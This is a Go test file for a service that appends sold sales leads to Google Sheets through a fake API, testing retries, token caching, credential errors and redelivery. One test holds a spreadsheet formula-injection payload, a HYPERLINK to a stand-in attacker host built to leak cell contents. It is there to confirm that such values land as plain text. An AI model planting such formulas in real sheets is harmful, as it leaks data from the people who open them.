package sheets

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"errors"
	"reflect"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/leadrelay/leadrelay/shared/config"
	"github.com/leadrelay/leadrelay/shared/lead"
	"github.com/leadrelay/leadrelay/shared/sheets/sheetstest"
	"github.com/leadrelay/leadrelay/shared/webhook"
)

const credRef = "ssm:/leadrelay/sheets/acme"

// newSender is a Sender to the fake whose credentials are the fake's
// service account key, with no jitter (every backoff the 1 s floor).
func newSender(f *sheetstest.Fake) *Sender {
	return &Sender{
		SheetsURL: f.SheetsURL, TokenURL: f.TokenURL, Client: NewClient(),
		Credentials: func(_ context.Context, ref string) (string, error) {
			if ref != credRef {
				return "", errors.New("ParameterNotFound")
			}
			return f.KeyJSON, nil
		},
		Jitter: func(time.Duration) time.Duration { return 0 },
	}
}

func sheetsDelivery(fields ...config.FieldMap) *config.Delivery {
	if fields == nil {
		fields = []config.FieldMap{
			{Name: "Lead", From: "$lead_id"},
			{Name: "Phone", From: "phone", Phone: config.PhoneNational},
			{Name: "State", From: "state", Map: map[string]string{"CA": "California"}},
			{Name: "Price", From: "$price"},
			{Name: "Notes", From: "notes"},
			{Name: "Vendor", Value: "LR"},
		}
	}
	return &config.Delivery{Type: config.DeliverySheets, SpreadsheetID: sheetstest.SpreadsheetID, Range: "Leads!A1",
		Credentials: credRef, Timeout: config.Duration(5 * time.Second), MaxAttempts: 5, Fields: fields}
}

func soldPost(id string, fields map[string]any) webhook.Post {
	if fields == nil {
		fields = map[string]any{"phone": "+14158927310", "state": "CA", "age": float64(34)}
	}
	return webhook.Post{Lead: &lead.Lead{ID: id, Campaign: "auto", Source: "src", Fields: fields}, Price: 2550, MessageID: id + ".1"}
}

// noRefusals fails the test if the fake saw a request a correct client
// never sends (a bad assertion, an append that is not RAW).
func noRefusals(t *testing.T, f *sheetstest.Fake) {
	t.Helper()
	if bad := f.Refused(); len(bad) > 0 {
		t.Fatalf("the fake refused: %q", bad)
	}
}

// A sold lead is one row: the mapped columns in order, a missing field an
// empty cell, the price a number; the first attempt appends without
// reading the sheet, and the token is asked for once.
func TestSoldLeadIsOneRowOfTheMappedColumns(t *testing.T) {
	f := sheetstest.New(t)
	s := newSender(f)
	v := s.Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
	if v.Outcome != webhook.Accepted || v.Reason != webhook.ReasonStatus2xx || v.BuyerLeadID != "Leads!A1:F1" {
		t.Fatalf("verdict %+v", v)
	}
	want := [][]any{{"L1", "(415) 892-7310", "California", json.Number("25.5"), "", "LR"}}
	if rows := f.Rows("Leads"); !reflect.DeepEqual(rows, want) {
		t.Fatalf("rows %#v, want %#v", rows, want)
	}
	if v := s.Send(context.Background(), sheetsDelivery(), soldPost("L2", nil)); v.Outcome != webhook.Accepted || v.BuyerLeadID != "Leads!A2:F2" {
		t.Fatalf("second lead: %+v", v)
	}
	if f.Requests("token") != 1 || f.Requests("read") != 0 || f.Requests("append") != 2 {
		t.Fatalf("requests: token %d, read %d, append %d", f.Requests("token"), f.Requests("read"), f.Requests("append"))
	}
	noRefusals(t, f)
}

// Without a field mapped from $lead_id the row starts with the lead id,
// and the range's first column is where the table starts.
func TestLeadIDColumnAddedFirst(t *testing.T) {
	f := sheetstest.New(t)
	f.SetRows("Sold", []any{"", "Lead", "Phone"})
	d := sheetsDelivery(config.FieldMap{Name: "Phone", From: "phone", Phone: config.PhoneE164})
	d.Range = "Sold!B1"
	s := newSender(f)
	if v := s.Send(context.Background(), d, soldPost("L1", nil)); v.Outcome != webhook.Accepted {
		t.Fatalf("verdict %+v", v)
	}
	// A repeat reads column B back and finds it.
	p := soldPost("L1", nil)
	p.Repeat = true
	if v := s.Send(context.Background(), d, p); v.Outcome != webhook.Accepted || v.Reason != ReasonRowFound {
		t.Fatalf("repeat: %+v", v)
	}
	want := [][]any{{"", "Lead", "Phone"}, {"", "L1", "+14158927310"}}
	if rows := f.Rows("Sold"); !reflect.DeepEqual(rows, want) {
		t.Fatalf("rows %#v, want %#v", rows, want)
	}
	noRefusals(t, f)
}

// A value that starts with "=" lands as the text it is: the append is
// RAW (the fake takes nothing else), so Sheets never runs it as a formula.
func TestFormulaLandsAsText(t *testing.T) {
	f := sheetstest.New(t)
	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
	fields := map[string]any{"phone": "+14158927310", "state": "CA", "notes": formula}
	d := sheetsDelivery(config.FieldMap{Name: "Lead", From: "$lead_id"}, config.FieldMap{Name: "Notes", From: "notes"},
		config.FieldMap{Name: "Zip", Value: "02134"}, config.FieldMap{Name: "Plus", Value: "+1 555"})
	if v := newSender(f).Send(context.Background(), d, soldPost("L1", fields)); v.Outcome != webhook.Accepted {
		t.Fatalf("verdict %+v", v)
	}
	want := [][]any{{"L1", formula, "02134", "+1 555"}}
	if rows := f.Rows("Leads"); !reflect.DeepEqual(rows, want) {
		t.Fatalf("rows %#v, want %#v", rows, want)
	}
	noRefusals(t, f)
}

// Sheets' 429 is retried after the backoff (and Retry-After): one row.
func TestRateLimitedThenAppended(t *testing.T) {
	f := sheetstest.New(t)
	f.Fail("append", sheetstest.Fault{Status: 429, RetryAfter: "1"})
	start := time.Now()
	v := newSender(f).Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
	if v.Outcome != webhook.Accepted || len(f.Rows("Leads")) != 1 || f.Requests("append") != 2 {
		t.Fatalf("verdict %+v, rows %v, appends %d", v, f.Rows("Leads"), f.Requests("append"))
	}
	if took := time.Since(start); took < time.Second {
		t.Fatalf("retried after %s, before Retry-After", took)
	}
	// A 429 is no ambiguity: the retry appends without reading first.
	if f.Requests("read") != 0 {
		t.Fatalf("%d reads", f.Requests("read"))
	}
}

// A Retry-After longer than the delivery's timeout leaves the retry to
// the delivery queue: transient, not unknown, nothing appended.
func TestRateLimitedPastTheTimeoutIsTransient(t *testing.T) {
	f := sheetstest.New(t)
	f.Fail("append", sheetstest.Fault{Status: 429, RetryAfter: "30"})
	v := newSender(f).Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
	if v.Outcome != webhook.Transient || v.Status != 429 || v.Unknown || len(f.Rows("Leads")) != 0 || f.Requests("append") != 1 {
		t.Fatalf("verdict %+v, rows %v", v, f.Rows("Leads"))
	}
	if !strings.Contains(v.Detail, "RESOURCE_EXHAUSTED") {
		t.Fatalf("detail %q", v.Detail)
	}
}

// A redelivered message (Repeat) whose lead is already in the sheet adds
// no row: it reads the lead-id column back and accepts.
func TestRedeliveryAppendsOnce(t *testing.T) {
	f := sheetstest.New(t)
	s := newSender(f)
	d := sheetsDelivery()
	if v := s.Send(context.Background(), d, soldPost("L1", nil)); v.Outcome != webhook.Accepted {
		t.Fatalf("first: %+v", v)
	}
	again := soldPost("L1", nil)
	again.Repeat = true
	for range 2 {
		if v := s.Send(context.Background(), d, again); v.Outcome != webhook.Accepted || v.Reason != ReasonRowFound {
			t.Fatalf("redelivered: %+v", v)
		}
	}
	if rows := f.Rows("Leads"); len(rows) != 1 || f.Requests("append") != 1 || f.Requests("read") != 2 {
		t.Fatalf("rows %v, appends %d, reads %d", rows, f.Requests("append"), f.Requests("read"))
	}
	// A repeat whose lead is not there yet appends it.
	other := soldPost("L2", nil)
	other.Repeat = true
	if v := s.Send(context.Background(), d, other); v.Outcome != webhook.Accepted || v.Reason != webhook.ReasonStatus2xx {
		t.Fatalf("repeat of a lead not in the sheet: %+v", v)
	}
	if rows := f.Rows("Leads"); len(rows) != 2 || rows[1][0] != "L2" {
		t.Fatalf("rows %v", rows)
	}
	noRefusals(t, f)
}

// An append that Google applied but never answered is transient and
// unknown; the retry (after an unknown outcome) finds the row: one row.
func TestAppendNeverAnsweredThenRetried(t *testing.T) {
	f := sheetstest.New(t)
	f.Fail("append", sheetstest.Fault{Apply: true, Delay: 1500 * time.Millisecond})
	s := newSender(f)
	d := sheetsDelivery()
	d.Timeout = config.Duration(time.Second)
	v := s.Send(context.Background(), d, soldPost("L1", nil))
	if v.Outcome != webhook.Transient || !v.Unknown || v.Reason != webhook.ReasonTimeout {
		t.Fatalf("verdict %+v", v)
	}
	retry := soldPost("L1", nil)
	retry.AfterUnknown, retry.Repeat = true, true
	if v := s.Send(context.Background(), d, retry); v.Outcome != webhook.Accepted || v.Reason != ReasonRowFound {
		t.Fatalf("retry: %+v", v)
	}
	if rows := f.Rows("Leads"); len(rows) != 1 {
		t.Fatalf("rows %v", rows)
	}
}

// A 5xx after Google applied the append is ambiguous: the retry within
// Send reads back first and finds the row instead of appending again.
func TestServerErrorAfterAppendReadsBack(t *testing.T) {
	f := sheetstest.New(t)
	f.Fail("append", sheetstest.Fault{Status: 500, Apply: true})
	v := newSender(f).Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
	if v.Outcome != webhook.Accepted || v.Reason != ReasonRowFound || v.Unknown {
		t.Fatalf("verdict %+v", v)
	}
	if rows := f.Rows("Leads"); len(rows) != 1 || f.Requests("append") != 1 || f.Requests("read") != 1 {
		t.Fatalf("rows %v, appends %d, reads %d", rows, f.Requests("append"), f.Requests("read"))
	}
	// One that did not apply: read back, not there, appended once.
	f.Fail("append", sheetstest.Fault{Status: 503})
	if v := newSender(f).Send(context.Background(), sheetsDelivery(), soldPost("L2", nil)); v.Outcome != webhook.Accepted || v.Reason != webhook.ReasonStatus2xx {
		t.Fatalf("verdict %+v", v)
	}
	if rows := f.Rows("Leads"); len(rows) != 2 {
		t.Fatalf("rows %v", rows)
	}
}

// A sheet not shared with the service account (403) is a rejection that
// says what to do.
func TestForbiddenIsRejectedWithTheReason(t *testing.T) {
	f := sheetstest.New(t)
	f.Deny(true)
	v := newSender(f).Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
	if v.Outcome != webhook.Rejected || v.Status != 403 || v.Reason != webhook.ReasonStatus4xx ||
		!strings.Contains(v.Detail, "PERMISSION_DENIED: The caller does not have permission") ||
		!strings.Contains(v.Detail, "share the spreadsheet with "+sheetstest.ClientEmail+" as an Editor") {
		t.Fatalf("verdict %+v", v)
	}
	if f.Requests("append") != 1 {
		t.Fatalf("a rejection was retried: %d appends", f.Requests("append"))
	}
	// An unknown spreadsheet: 404, rejected, naming the id.
	f.Deny(false)
	d := sheetsDelivery()
	d.SpreadsheetID = "1SomeoneElsesSheet0000000"
	if v := newSender(f).Send(context.Background(), d, soldPost("L1", nil)); v.Outcome != webhook.Rejected || v.Status != 404 ||
		!strings.Contains(v.Detail, "check spreadsheet_id") {
		t.Fatalf("verdict %+v", v)
	}
}

// The token endpoint failing (5xx, or not there) is transient; no row.
func TestTokenEndpointFailureIsTransient(t *testing.T) {
	f := sheetstest.New(t)
	f.Fail("token", sheetstest.Fault{Status: 500}, sheetstest.Fault{Status: 503}, sheetstest.Fault{Status: 500})
	v := newSender(f).Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
	if v.Outcome != webhook.Transient || v.Status != 500 || v.Unknown || !strings.Contains(v.Detail, "token endpoint answered 500") {
		t.Fatalf("verdict %+v", v)
	}
	if f.Requests("append") != 0 || len(f.Rows("Leads")) != 0 {
		t.Fatalf("appended without a token")
	}
	s := newSender(f)
	s.TokenURL = "http://127.0.0.1:1/token"
	short := sheetsDelivery()
	short.Timeout = config.Duration(time.Second) // no room for a second try
	if v := s.Send(context.Background(), short, soldPost("L1", nil)); v.Outcome != webhook.Transient || v.Reason != webhook.ReasonConnection {
		t.Fatalf("no endpoint: %+v", v)
	}
}

// A key Google does not know (the signature fails) is a rejection: the
// lead moves on to the next buyer.
func TestUnknownKeyIsRejected(t *testing.T) {
	f := sheetstest.New(t)
	other, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		t.Fatal(err)
	}
	der, _ := x509.MarshalPKCS8PrivateKey(other)
	var key map[string]string
	_ = json.Unmarshal([]byte(f.KeyJSON), &key)
	key["private_key"] = string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: der}))
	raw, _ := json.Marshal(key)
	s := newSender(f)
	s.Credentials = func(context.Context, string) (string, error) { return string(raw), nil }
	v := s.Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
	if v.Outcome != webhook.Rejected || v.Reason != ReasonCredentialsRefused || !strings.Contains(v.Detail, "invalid_grant: Invalid JWT Signature.") ||
		!strings.Contains(v.Detail, sheetstest.ClientEmail) {
		t.Fatalf("verdict %+v", v)
	}
	if strings.Contains(v.Detail+v.Response, "PRIVATE KEY") {
		t.Fatalf("the verdict shows the key: %+v", v)
	}
}

// Credentials that cannot be read are transient (SSM may answer later);
// credentials that are not a service account's key are a rejection. No
// verdict quotes them.
func TestCredentialsProblems(t *testing.T) {
	f := sheetstest.New(t)
	s := newSender(f)
	d := sheetsDelivery()
	d.Credentials = "ssm:/leadrelay/sheets/nobody"
	if v := s.Send(context.Background(), d, soldPost("L1", nil)); v.Outcome != webhook.Transient || v.Reason != ReasonCredentials ||
		!strings.Contains(v.Detail, "ssm:/leadrelay/sheets/nobody") {
		t.Fatalf("unreadable: %+v", v)
	}
	for _, raw := range []string{`not json PrivateKeyLiteral`, `{"type": "authorized_user", "refresh_token": "PrivateKeyLiteral"}`,
		`{"type": "service_account", "client_email": "a@b", "private_key": "PrivateKeyLiteral"}`} {
		s.Credentials = func(context.Context, string) (string, error) { return raw, nil }
		v := s.Send(context.Background(), sheetsDelivery(), soldPost("L1", nil))
		if v.Outcome != webhook.Rejected || v.Reason != ReasonCredentials || strings.Contains(v.Detail, "PrivateKeyLiteral") {
			t.Errorf("%s: %+v", raw, v)
		}
	}
	if f.Requests("token") != 0 {
		t.Fatalf("asked for a token with bad credentials")
	}
}

// A lead whose value cannot be formatted for the buyer is refused with
// reason render, as for a webhook.
func TestUnrenderableLeadIsRejected(t *testing.T) {
	f := sheetstest.New(t)
	v := newSender(f).Send(context.Background(), sheetsDelivery(), soldPost("L1", map[string]any{"phone": "+442071838750", "state": "CA"}))
	if v.Outcome != webhook.Rejected || v.Reason != webhook.ReasonRender || f.Requests("append") != 0 {
		t.Fatalf("verdict %+v", v)
	}
}

// The access token serves until 60 s before it expires, then a new one is
// asked for; a token Sheets refuses (401) is replaced once, at once.
func TestTokenCachedAndRenewed(t *testing.T) {
	f := sheetstest.New(t)
	var offset atomic.Int64
	clock := func() time.Time { return time.Now().Add(time.Duration(offset.Load())) }
	f.SetNow(clock)
	s := newSender(f)
	s.Now = clock
	send := func(id string) {
		t.Helper()
		if v := s.Send(context.Background(), sheetsDelivery(), soldPost(id, nil)); v.Outcome != webhook.Accepted {
			t.Fatalf("%s: %+v", id, v)
		}
	}
	send("L1")
	offset.Store(int64(3599*time.Second - TokenSlack - time.Second))
	send("L2")
	if n := f.Requests("token"); n != 1 {
		t.Fatalf("%d token requests before the slack", n)
	}
	offset.Store(int64(3599*time.Second - TokenSlack))
	send("L3")
	if n := f.Requests("token"); n != 2 {
		t.Fatalf("%d token requests at the slack", n)
	}
	f.Revoke()
	send("L4")
	if n := f.Requests("token"); n != 3 || f.Requests("append") != 5 {
		t.Fatalf("after a revocation: %d token requests, %d appends", n, f.Requests("append"))
	}
	noRefusals(t, f)
}

// Concurrent sends of one account share one token request.
func TestConcurrentSendsShareOneToken(t *testing.T) {
	f := sheetstest.New(t)
	s := newSender(f)
	var wg sync.WaitGroup
	for i := range 20 {
		wg.Go(func() {
			if v := s.Send(context.Background(), sheetsDelivery(), soldPost(string(rune('a'+i)), nil)); v.Outcome != webhook.Accepted {
				t.Errorf("%+v", v)
			}
		})
	}
	wg.Wait()
	if f.Requests("token") != 1 || len(f.Rows("Leads")) != 20 {
		t.Fatalf("%d token requests, %d rows", f.Requests("token"), len(f.Rows("Leads")))
	}
}
